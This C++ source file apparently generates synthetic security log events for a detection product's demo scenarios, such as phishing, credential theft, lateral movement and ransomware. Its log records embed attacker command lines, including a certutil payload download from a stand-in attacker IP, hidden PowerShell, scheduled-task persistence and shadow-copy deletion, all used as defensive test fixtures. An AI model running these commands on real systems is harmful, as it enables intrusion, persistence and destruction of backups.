// SPDX-License-Identifier: Apache-2.0
#include "app/demo_scenarios.h"

#include <array>
#include <chrono>

#include <fmt/format.h>

#include "app/demo_formats.h"

namespace countersign {
namespace {

using std::chrono::milliseconds;
using Out = std::vector<DemoMessage>;

constexpr std::string_view kSystem32 = "C:\\Windows\\System32\\";
constexpr std::string_view kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr std::string_view kCommandShell = "C:\\Windows\\System32\\cmd.exe";
constexpr std::string_view kWord = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
// `Write-Output 'Countersign demo'` in UTF-16, Base64
constexpr std::string_view kEncodedScript =
    "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAEMAbwB1AG4AdABlAHIAcwBpAGcAbgAgAGQAZQBtAG8AJwA=";

constexpr std::array<std::string_view, kDemoIncidents> kTargetServers = {"SRV-FILE1", "SRV-ERP1",
                                                                         "SRV-PRINT1", "SRV-BACKUP1"};

/// One play: where it happens, and a clock that moves with each message.
class Scene {
 public:
  Scene(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out)
      : company_(company), incident_(incident % kDemoIncidents), now_(start), out_(out) {}

  DemoCompany& company() { return company_; }
  DemoRandom& random() { return company_.random(); }
  const DemoHost& victim() const { return company_.workstations()[4 + incident_ * 7]; }
  const DemoPerson& person() const { return company_.person_of(victim()); }
  const DemoHost& target() const {
    return company_.server(kTargetServers[static_cast<std::size_t>(incident_)]);
  }
  std::string attacker() const { return fmt::format("203.0.113.{}", 40 + incident_); }
  std::uint64_t incident() const { return incident_; }

  void windows(const DemoHost& host, const DemoWindowsEvent& event) {
    out_.push_back({now_, demo_windows(company_, host, now_, event)});
    pause(300, 1'500);
  }
  void process(const DemoHost& host, std::string_view image, std::string_view command_line,
               std::string_view parent, bool system = false) {
    windows(host, demo_process(company_, host, now_, image, command_line, parent, system));
  }
  void fortigate(std::string_view body) {
    out_.push_back({now_, demo_fortigate(now_, body)});
    pause(200, 900);
  }
  void alert(const DemoFlow& flow, const DemoJson& part) {
    out_.push_back({now_, demo_eve(company_, now_, "alert", flow, "http", part)});
    pause(100, 600);
  }
  void pause(std::uint64_t least_ms, std::uint64_t most_ms) {
    now_ += milliseconds(random().between(least_ms, most_ms));
    now_ += std::chrono::nanoseconds(random().below(1'000'000));
  }
  Timestamp now() const { return now_; }

 private:
  DemoCompany& company_;
  std::uint64_t incident_;
  Timestamp now_;
  Out& out_;
};

std::string admin_event(std::string_view log, std::string_view level, std::string_view description,
                        std::string_view user, std::string_view address, std::string_view rest) {
  return fmt::format(
      "logid=\"{}\" type=\"event\" subtype=\"system\" level=\"{}\" vd=\"root\" logdesc=\"{}\" "
      "user=\"{}\" ui=\"https({})\" {}",
      log, level, description, user, address, rest);
}

std::string config_event(Scene& scene, std::string_view user, std::string_view address,
                         std::string_view action, std::string_view path, std::string_view object,
                         std::string_view change) {
  return admin_event(
      "0100044547", "information", "Object attribute configured", user, address,
      fmt::format("action=\"{}\" cfgtid={} cfgpath=\"{}\" cfgobj=\"{}\" cfgattr=\"{}\" "
                  "msg=\"{} {} {}\"",
                  action, scene.company().next_session(), path, object, change, action, path, object));
}

constexpr std::array<std::string_view, 6> kFirewallTakeoverRules = {
    "17ccc509-ad4a-4f27-8994-8875cf10628e", "1c478649-96d1-42fe-972f-65dc48b98101",
    "0ec24e8c-c1ea-4582-a670-2017f0d196b7", "f0a027ba-e061-415a-9e8b-8c795923248a",
    "eb3c41be-20b1-45cf-a74f-f8f37f2743c1", "b10d8f11-5b37-4cbe-b6f6-d1a64865976b"};
void firewall_takeover(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const std::string from = scene.attacker();
  const auto login = [&](std::string_view log, std::string_view level, std::string_view status,
                         std::string_view reason) {
    scene.fortigate(
        admin_event(log, level, fmt::format("Admin login {}", status), "admin", from,
                    fmt::format("method=\"https\" srcip={} dstip={} action=\"login\" status=\"{}\" "
                                "reason=\"{}\" msg=\"Administrator admin login {} from https({})\"",
                                from, kDemoPublicAddress, status, reason, status, from)));
  };
  const std::uint64_t attempts = scene.random().between(12, 25);
  for (std::uint64_t i = 0; i < attempts; ++i) login("0100032002", "alert", "failed", "passwd_invalid");
  login("0100032001", "information", "success", "none");
  scene.fortigate(config_event(scene, "admin", from, "Add", "system.admin",
                               fmt::format("svc-sync{}", incident), "accprofile[super_admin]password[*]"));
  scene.fortigate(
      config_event(scene, "admin", from, "Edit", "log.syslogd.setting", "", "status[enable->disable]"));
  scene.fortigate(
      config_event(scene, "admin", from, "Edit", "firewall.policy", "12", "srcaddr[partners->all]"));
}

constexpr std::array<std::string_view, 5> kPhishingRules = {
    "bb99652c-63ee-4db3-8e51-90f495ab1c92", "3e801804-a35b-454b-a8f8-ecf6c3a8df0c",
    "1ff4d912-f90f-44c8-b7ee-022b535ac88d", "9ca181a3-d48b-43cf-9773-386abb045554",
    "df0ad441-543c-4d1b-a592-acb787274c28"};
void phishing(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const DemoHost& host = scene.victim();
  const std::uint64_t port = scene.random().between(49'152, 65'535);
  scene.fortigate(fmt::format(
      "logid=\"0317013312\" type=\"utm\" subtype=\"webfilter\" eventtype=\"ftgd_allow\" level=\"notice\" "
      "vd=\"root\" "
      "policyid=4 sessionid={} user=\"{}\" srcip={} srcport={} srcintf=\"lan\" dstip=198.51.100.66 "
      "dstport=443 "
      "dstintf=\"wan1\" proto=6 service=\"HTTPS\" hostname=\"shared-invoice{}.example\" profile=\"staff\" "
      "action=\"passthrough\" reqtype=\"direct\" url=\"/open\" direction=\"outgoing\" msg=\"URL belongs to "
      "an "
      "allowed category in policy\" method=\"domain\" cat=61 catdesc=\"Phishing\"",
      company.next_session(), scene.person().login, host.address, port, incident));
  scene.pause(1'500, 3'000);
  scene.process(host, kWord, "\"WINWORD.EXE\" /n \"C:\\Users\\Public\\Downloads\\invoice.docm\"",
                "C:\\Windows\\explorer.exe");
  scene.process(host, kPowerShell, fmt::format("powershell.exe -NoP -W Hidden -enc {}", kEncodedScript),
                kWord);
  scene.process(host, "C:\\Windows\\System32\\certutil.exe",
                fmt::format("certutil.exe -urlcache -split -f http://{}/u.txt upd.exe", scene.attacker()),
                kPowerShell);
  const std::string key =
      fmt::format("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", scene.person().sid);
  scene.windows(host, demo_sysmon(13, "Registry value set:",
                                  {{"RuleName", "-"},
                                   {"EventType", "SetValue"},
                                   {"UtcTime", demo_utc_time(scene.now())},
                                   {"ProcessGuid", company.guid()},
                                   {"ProcessId", "6120"},
                                   {"Image", std::string(kPowerShell)},
                                   {"TargetObject", key},
                                   {"Details", fmt::format("C:\\Users\\{}\\AppData\\Local\\Temp\\upd.exe",
                                                           scene.person().login)},
                                   {"User", demo_account(scene.person())}}));
}

constexpr std::array<std::string_view, 1> kForgottenMachineRules = {"88a9b522-99e0-48b8-9a7c-55dc52a00da8"};
void forgotten_machine(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const std::string age = std::to_string(scene.random().between(9, 60));
  scene.windows(scene.victim(), demo_defender(1151, "Endpoint Protection client health report",
                                              {{"Platform version", "4.18.26010.5"},
                                               {"RTP state", "Enabled"},
                                               {"Last AV security intelligence age", age},
                                               {"Last AS security intelligence age", age},
                                               {"Last quick scan age", age}}));
}

constexpr std::array<std::string_view, 2> kInfectedDownloadRules = {"2f16350e-bd37-4b75-b4c3-d8a205539fde",
                                                                    "7551af6b-b203-4df7-aea2-c1e33d9ec236"};
DemoData threat(Scene& scene, std::string_view detection, std::string_view action, std::string_view error) {
  return {{"Detection ID", std::string(detection)},
          {"Threat ID", "2147700001"},
          {"Threat Name", "Trojan:Win32/DemoDropper.A"},
          {"Severity ID", "5"},
          {"Severity Name", "Severe"},
          {"Category ID", "8"},
          {"Detection User", demo_account(scene.person())},
          {"Path", fmt::format("file:_C:\\Users\\{}\\Downloads\\setup{}.exe", scene.person().login,
                               scene.incident())},
          {"Action ID", std::string(action)},
          {"Error Code", std::string(error)}};
}

void infected_download(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const DemoHost& host = scene.victim();
  const std::uint64_t port = scene.random().between(49'152, 65'535);
  scene.fortigate(fmt::format(
      "logid=\"0211008193\" type=\"utm\" subtype=\"virus\" eventtype=\"infected\" level=\"notice\" "
      "vd=\"root\" "
      "msg=\"File is infected.\" action=\"monitored\" service=\"HTTP\" sessionid={} srcip={} srcport={} "
      "srcintf=\"lan\" dstip=198.51.100.31 dstport=80 dstintf=\"wan1\" policyid=9 proto=6 "
      "direction=\"incoming\" "
      "filename=\"setup{}.exe\" virus=\"W32/Demo.Dropper!tr\" dtype=\"av-engine\" virusid=8100001 "
      "url=\"http://files.example/setup{}.exe\" profile=\"monitor-only\" crscore=50 crlevel=\"critical\"",
      company.next_session(), host.address, port, incident, incident));
  const std::string detection = company.guid();
  scene.windows(host, demo_defender(1116,
                                    "Microsoft Defender Antivirus has detected malware or other potentially "
                                    "unwanted software.",
                                    threat(scene, detection, "9", "0x00000000")));
  scene.windows(host,
                demo_defender(1117, "Microsoft Defender Antivirus has taken action to protect this machine.",
                              threat(scene, detection, "2", "0x00000000")));
}

constexpr std::array<std::string_view, 2> kCredentialTheftRules = {"6a7c1891-8430-4d54-9531-48febeeffeb9",
                                                                   "fe01d90d-5705-4afb-85a3-c98836779479"};
void credential_theft(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const DemoHost& host = scene.victim();
  scene.process(host, fmt::format("{}whoami.exe", kSystem32), "whoami /all", kCommandShell, true);
  const std::uint64_t reads = scene.random().between(2, 5);
  for (std::uint64_t i = 0; i < reads; ++i) {
    scene.windows(
        host, demo_sysmon(10, "Process accessed:",
                          {{"RuleName", "-"},
                           {"UtcTime", demo_utc_time(scene.now())},
                           {"SourceProcessGUID", company.guid()},
                           {"SourceProcessId", "6120"},
                           {"SourceImage", fmt::format("C:\\Users\\{}\\AppData\\Local\\Temp\\upd.exe",
                                                       scene.person().login)},
                           {"TargetProcessGUID", company.guid()},
                           {"TargetProcessId", "712"},
                           {"TargetImage", fmt::format("{}lsass.exe", kSystem32)},
                           {"GrantedAccess", "0x1010"},
                           {"CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(0000000002A10C1)"},
                           {"SourceUser", demo_account(scene.person())},
                           {"TargetUser", "NT AUTHORITY\\SYSTEM"}}));
  }
}

constexpr std::array<std::string_view, 2> kServerAttackRules = {"788fe3fb-0621-4895-8618-11e7346261da",
                                                                "bf34c061-9d26-4941-8165-c0278ba181f2"};
void server_attack(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const std::string_view server = incident % 2 == 0 ? "10.20.5.10" : "10.20.5.11";
  const std::uint64_t requests = scene.random().between(3, 9);
  for (std::uint64_t i = 0; i < requests; ++i) {
    const std::uint64_t port = scene.random().between(30'000, 60'000);
    DemoJson alert;
    alert.text("action", "allowed")
        .number("gid", 1)
        .number("signature_id", 9'000'101 + incident)
        .number("rev", 3);
    alert.text("signature", "DEMO EXPLOIT Remote code execution attempt");
    alert.text("category", "Attempted Administrator Privilege Gain").number("severity", 1);
    scene.alert({scene.attacker(), port, std::string(server), 443}, alert);
    scene.fortigate(
        fmt::format("logid=\"0419016384\" type=\"utm\" subtype=\"ips\" eventtype=\"signature\" "
                    "level=\"alert\" vd=\"root\" "
                    "severity=\"critical\" srcip={} dstip={} srcintf=\"wan1\" dstintf=\"dmz\" sessionid={} "
                    "action=\"detected\" "
                    "proto=6 service=\"HTTPS\" policyid=12 attack=\"Demo.Server.Remote.Code.Execution\" "
                    "srcport={} dstport=443 "
                    "direction=\"incoming\" attackid=49999 profile=\"monitor-new\" msg=\"web_misc: "
                    "Demo.Server.Remote.Code.Execution\" crscore=50 crlevel=\"critical\"",
                    scene.attacker(), server, company.next_session(), port));
  }
}

constexpr std::array<std::string_view, 4> kDefenderSwitchedOffRules = {
    "843caa6d-05c5-4eec-828b-3b0881e2f53e", "137bb59a-1f1b-402a-985d-78e82b367b6b",
    "667469a2-754c-4a84-a281-2569744eccf3", "0dd88780-73d6-4ba5-9ef0-19f1fe190c30"};
void defender_switched_off(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const DemoHost& host = scene.victim();
  scene.windows(host, demo_defender(5007, "Microsoft Defender Antivirus configuration has changed.",
                                    {{"Old Value", ""},
                                     {"New Value",
                                      "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\"
                                      "C:\\Users\\Public = 0x0"}}));
  scene.windows(host, demo_defender(5001, "Real-time protection is disabled.", {}));
  const std::string detection = company.guid();
  scene.windows(host,
                demo_defender(1117, "Microsoft Defender Antivirus has taken action to protect this machine.",
                              threat(scene, detection, "6", "0x00000000")));
  scene.windows(host,
                demo_defender(1119,
                              "Microsoft Defender Antivirus has encountered a critical error when taking "
                              "action on malware.",
                              threat(scene, detection, "3", "0x80508022")));
}

constexpr std::array<std::string_view, 4> kLateralMovementRules = {
    "798af34b-f8d2-4983-a951-bef6adc3e4cc", "5f09d7f8-29d5-424d-afad-d311b4805256",
    "85644f80-d68f-43d5-af54-b64d55dcf616", "519dc337-4863-47b9-b900-1a2fe449a75c"};
void lateral_movement(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const DemoHost& host = scene.target();
  const DemoPerson& person = scene.person();
  const std::string program = "C:\\Windows\\Temp\\updsvc.exe";
  const DemoData subject = {{"SubjectUserSid", person.sid},
                            {"SubjectUserName", person.login},
                            {"SubjectDomainName", std::string(kDemoNtDomain)},
                            {"SubjectLogonId", "0x51c2e"}};
  DemoData audit = subject;
  audit.insert(audit.end(), {{"ServiceName", "UpdSvc"},
                             {"ServiceFileName", program},
                             {"ServiceType", "0x10"},
                             {"ServiceStartType", "3"},
                             {"ServiceAccount", "LocalSystem"}});
  scene.windows(host, demo_security(4697, "A service was installed in the system.", std::move(audit)));
  scene.windows(host, {"System",
                       "Service Control Manager",
                       7045,
                       "A service was installed in the system.",
                       {{"ServiceName", "UpdSvc"},
                        {"ImagePath", program},
                        {"ServiceType", "user mode service"},
                        {"StartType", "demand start"},
                        {"AccountName", "LocalSystem"}},
                       false});
  DemoData member = {{"MemberName", "-"},
                     {"MemberSid", person.sid},
                     {"TargetUserName", "Administrators"},
                     {"TargetDomainName", "Builtin"},
                     {"TargetSid", "S-1-5-32-544"}};
  member.insert(member.end(), subject.begin(), subject.end());
  scene.windows(
      host, demo_security(4732, "A member was added to a security-enabled local group.", std::move(member)));
  scene.process(host, fmt::format("{}schtasks.exe", kSystem32),
                "schtasks /create /sc minute /mo 15 /tn Upd /tr C:\\Windows\\Temp\\updsvc.exe", kCommandShell,
                true);
}

constexpr std::array<std::string_view, 1> kOpenRemoteDesktopRules = {"b42f1fc4-14bb-4ee8-990e-46ad11bd4ae5"};
void open_remote_desktop(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const std::uint64_t sessions = scene.random().between(2, 6);
  for (std::uint64_t i = 0; i < sessions; ++i) {
    const std::uint64_t port = scene.random().between(49'152, 65'535);
    scene.fortigate(fmt::format(
        "logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip={} "
        "srcport={} "
        "srcintf=\"lan\" srcintfrole=\"lan\" dstip={} dstport=3389 dstintf=\"wan1\" dstintfrole=\"wan\" "
        "sessionid={} "
        "proto=6 action=\"close\" policyid=4 policytype=\"policy\" service=\"RDP\" trandisp=\"snat\" "
        "transip={} "
        "duration=95 sentbyte=80211 rcvdbyte=412077",
        scene.victim().address, port, scene.attacker(), company.next_session(), kDemoPublicAddress));
  }
}

constexpr std::array<std::string_view, 1> kPlannedChangeRules = {"f0a027ba-e061-415a-9e8b-8c795923248a"};
constexpr std::array<std::string_view, kDemoIncidents> kChangedPaths = {
    "firewall.policy", "firewall.address", "firewall.service.custom", "router.static"};
void planned_change(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const std::uint64_t edits = scene.random().between(1, 4);
  for (std::uint64_t i = 0; i < edits; ++i) {
    scene.fortigate(config_event(scene, "netops", "10.20.9.4", "Edit",
                                 kChangedPaths[static_cast<std::size_t>(scene.incident())],
                                 std::to_string(20 + i), "comment[->planned change]"));
  }
}

constexpr std::array<std::string_view, 3> kRansomwareRules = {"8d8c7526-4aa6-45e9-bddf-856a3fa453d7",
                                                              "df94d4bf-1653-4853-b571-65b894eec038",
                                                              "25a51367-9b71-493b-ba6e-aa34e5b83316"};
void ransomware(DemoCompany& company, std::uint64_t incident, Timestamp start, Out& out) {
  Scene scene(company, incident, start, out);
  const DemoHost& host = scene.target();
  scene.process(host, fmt::format("{}vssadmin.exe", kSystem32), "vssadmin.exe delete shadows /all /quiet",
                "C:\\Windows\\Temp\\updsvc.exe", true);
  scene.process(host, fmt::format("{}wbem\\WMIC.exe", kSystem32), "wmic shadowcopy delete /nointeractive",
                "C:\\Windows\\Temp\\updsvc.exe", true);
  const std::string_view provider = "Microsoft-Windows-Eventlog";
  scene.windows(host, {"Security",
                       provider,
                       1102,
                       "The audit log was cleared.",
                       {{"SubjectUserSid", scene.person().sid},
                        {"SubjectUserName", scene.person().login},
                        {"SubjectDomainName", std::string(kDemoNtDomain)},
                        {"SubjectLogonId", "0x51c2e"}},
                       true});
  scene.windows(host, {"System",
                       provider,
                       104,
                       "The Application log file was cleared.",
                       {{"SubjectUserName", scene.person().login},
                        {"SubjectDomainName", std::string(kDemoNtDomain)},
                        {"Channel", "Application"},
                        {"BackupPath", ""}},
                       true});
}

constexpr std::array<DemoScenario, 11> kScenarios = {
    {{"firewall_takeover", kFirewallTakeoverRules, firewall_takeover},
     {"phishing", kPhishingRules, phishing},
     {"forgotten_machine", kForgottenMachineRules, forgotten_machine},
     {"infected_download", kInfectedDownloadRules, infected_download},
     {"planned_change", kPlannedChangeRules, planned_change},
     {"credential_theft", kCredentialTheftRules, credential_theft},
     {"server_attack", kServerAttackRules, server_attack},
     {"defender_switched_off", kDefenderSwitchedOffRules, defender_switched_off},
     {"lateral_movement", kLateralMovementRules, lateral_movement},
     {"open_remote_desktop", kOpenRemoteDesktopRules, open_remote_desktop},
     {"ransomware", kRansomwareRules, ransomware}}};

}  // namespace

std::span<const DemoScenario> demo_scenarios() { return kScenarios; }

}  // namespace countersign
